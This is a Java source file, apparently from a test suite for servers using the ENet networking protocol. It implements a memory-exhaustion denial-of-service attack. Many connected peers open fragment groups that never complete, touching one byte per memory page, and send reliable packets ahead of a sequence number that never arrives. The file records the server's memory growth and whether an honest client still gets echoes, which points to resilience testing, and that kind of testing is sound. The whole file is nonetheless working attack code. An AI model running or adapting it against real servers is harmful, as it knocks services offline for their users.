package dev.entitynet.examples.enetattack;

import dev.entitynet.examples.Arguments;
import dev.entitynet.examples.enetattack.session.EchoProbe;
import dev.entitynet.examples.enetattack.session.MilliClock;
import dev.entitynet.examples.enetattack.session.RawPeer;
import dev.entitynet.examples.enetattack.session.SessionListener;
import dev.entitynet.examples.enetattack.wire.SendFragmentCommand;
import dev.entitynet.examples.enetattack.wire.SendReliableCommand;

import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;

/**
 * Memory exhaustion by connected peers: each opens fragment groups that never complete (a large
 * claimed length, one byte in every 4 KiB page so the memory is really touched, never all
 * pieces) and sends reliable packets far ahead of a sequence number it never sends, so nothing
 * is ever delivered. Reports the server's resident memory (from /proc, given its pid) before,
 * at its peak, and after the attackers leave, and whether an honest client kept getting echoes.
 */
final class MemoryAttack implements Attack {
    /** Bytes per claimed fragment; a group of N bytes claims N / 1024 fragments. */
    static final int FRAGMENT_UNIT = 1024;
    /** Highest sequence number used ahead of the channel's position: inside ENet's 7 acceptable windows of 4096. */
    static final int SEQUENCE_BUDGET = 28_000;

    @Override
    public String name() {
        return "memory";
    }

    @Override
    public String usage() {
        return "[--pid P] [--peers 24] [--groups 24] [--group-bytes 1048576] [--ooo-bytes 2097152] [--rate 20000] [--seconds 3] [--settle 2]";
    }

    @Override
    public Set<String> options() {
        return Set.of("pid", "peers", "groups", "group-bytes", "ooo-bytes", "rate", "seconds", "settle");
    }

    @Override
    public Results run(Target target, Arguments a) throws InterruptedException {
        long pid = a.longValue("pid", -1);
        int peerCount = a.intValue("peers", 24);
        int groupBytes = Math.max(2 * FRAGMENT_UNIT, a.intValue("group-bytes", 1 << 20));
        int fragments = (groupBytes + FRAGMENT_UNIT - 1) / FRAGMENT_UNIT;
        int groups = Math.min(a.intValue("groups", 24), (SEQUENCE_BUDGET - 2) / fragments);
        int oooPackets = Math.min(a.intValue("ooo-bytes", 2 << 20) / FRAGMENT_UNIT, SEQUENCE_BUDGET - 2);
        double rate = a.doubleValue("rate", 20000);
        long holdMillis = (long) (a.doubleValue("seconds", 3) * 1000);
        long settleMillis = (long) (a.doubleValue("settle", 2) * 1000);
        int oooChannel = target.channels() > 1 ? 1 : 0;
        Results results = new Results(name());
        Rss rss = new Rss(pid);
        rss.sample();
        long before = rss.peak;
        List<Attacker> attackers = new ArrayList<>();
        HonestProbe honest = HonestProbe.start(target, 50, 5000);
        try {
            for (int i = 0; i < peerCount; i++) {
                RawPeer peer = RawPeer.open(target.anyLocal(), target.server(), target.channels(), target.random().nextInt(), false);
                if (peer.connect(5000) >= 0) {
                    attackers.add(new Attacker(peer, groups, fragments, groupBytes, oooPackets, oooChannel));
                } else {
                    peer.close();
                }
            }
            long attackStart = MilliClock.millis();
            rss.peak = before;
            RatePacer pacer = new RatePacer(rate);
            long datagrams = 0;
            long nextService = 0;
            int turn = 0;
            boolean sending = !attackers.isEmpty();
            while (sending) {
                for (int n = pacer.due(); n > 0 && sending; n--) {
                    sending = false;
                    for (int tries = 0; tries < attackers.size(); tries++) {
                        Attacker attacker = attackers.get(turn++ % attackers.size());
                        if (attacker.sendNext()) {
                            datagrams++;
                            sending = true;
                            break;
                        }
                    }
                }
                long now = MilliClock.millis();
                if (now >= nextService) {
                    attackers.forEach(x -> x.peer.poll(0, SessionListener.NONE));
                    rss.sample();
                    nextService = now + 50;
                }
                pacer.pause();
            }
            long holdEnd = MilliClock.millis() + holdMillis;
            while (MilliClock.millis() < holdEnd) {
                attackers.forEach(x -> x.peer.poll(0, SessionListener.NONE));
                rss.sample();
                Thread.sleep(50);
            }
            long attackEnd = MilliClock.millis();
            long attackBytes = attackers.stream().mapToLong(x -> x.peer.link().bytesSent()).sum();
            for (Attacker attacker : attackers) {
                attacker.peer.disconnect();
                attacker.peer.close();
            }
            Thread.sleep(settleMillis);
            long after = ProcessMemory.residentKib(pid);
            long claimed = (long) attackers.size() * ((long) groups * groupBytes + (long) oooPackets * FRAGMENT_UNIT);
            results.put("peers", peerCount)
                    .put("attackers_connected", attackers.size())
                    .put("groups_per_peer", groups)
                    .put("group_bytes", groupBytes)
                    .put("ooo_packets_per_peer", oooPackets)
                    .put("claimed_bytes", claimed)
                    .put("attack_bytes", attackBytes)
                    .put("attack_datagrams", datagrams)
                    .put("rss_before_kib", before)
                    .put("rss_peak_kib", rss.peak)
                    .put("rss_after_kib", after)
                    .put("rss_growth_kib", before < 0 ? -1 : rss.peak - before);
            if (honest == null) {
                results.put("honest_connected", false).put("responsive", false);
            } else {
                EchoProbe.Window during = honest.probe().window(attackStart, attackEnd);
                results.put("honest_connected", true)
                        .put("honest_probes_during", during.sent())
                        .put("honest_echoes_during", during.echoed())
                        .put("honest_rtt_p99_ms_during", during.roundTripMicros().p99() / 1000.0)
                        .put("responsive", honest.aliveSince(attackEnd));
            }
        } finally {
            attackers.forEach(x -> x.peer.close());
            if (honest != null) {
                honest.close();
            }
        }
        return results;
    }

    /** Peak resident memory of the server process, sampled. */
    private static final class Rss {
        final long pid;
        long peak = -1;

        Rss(long pid) {
            this.pid = pid;
        }

        void sample() {
            if (pid > 0) {
                peak = Math.max(peak, ProcessMemory.residentKib(pid));
            }
        }
    }

    /**
     * One attacking peer's datagrams: first the fragment groups (start sequence 2 + g × pieces,
     * so sequence 1 never comes), then single reliable packets 2, 3, ... on the out-of-order channel.
     */
    private static final class Attacker {
        final RawPeer peer;
        final int groups;
        final int fragments;
        final int groupBytes;
        final int oooPackets;
        final int oooChannel;
        final byte[] filler = new byte[FRAGMENT_UNIT];
        int group;
        int fragment;
        int ooo;

        Attacker(RawPeer peer, int groups, int fragments, int groupBytes, int oooPackets, int oooChannel) {
            this.peer = peer;
            this.groups = groups;
            this.fragments = fragments;
            this.groupBytes = groupBytes;
            this.oooPackets = oooPackets;
            this.oooChannel = oooChannel;
            java.util.Arrays.fill(filler, (byte) 0x6D);
        }

        /** Sends this peer's next datagram; false when it has sent everything. */
        boolean sendNext() {
            if (group < groups) {
                ByteBuffer out = peer.begin(true);
                while (group < groups && out.position() + SendFragmentCommand.SIZE + 1 <= RawPeer.MTU) {
                    int start = 2 + group * fragments;
                    new SendFragmentCommand(0, start + fragment, start, fragments, fragment, groupBytes, fragment * FRAGMENT_UNIT)
                            .write(out, filler, 0, 1);
                    fragment += 4; // one byte per 4 KiB page: every page touched, the group never complete
                    if (fragment >= fragments) {
                        fragment = 0;
                        group++;
                    }
                }
                peer.send();
                return true;
            }
            if (ooo < oooPackets) {
                ByteBuffer out = peer.begin(true);
                SendReliableCommand.write(out, oooChannel, 2 + ooo, filler, 0, filler.length);
                peer.send();
                ooo++;
                return true;
            }
            return false;
        }
    }
}
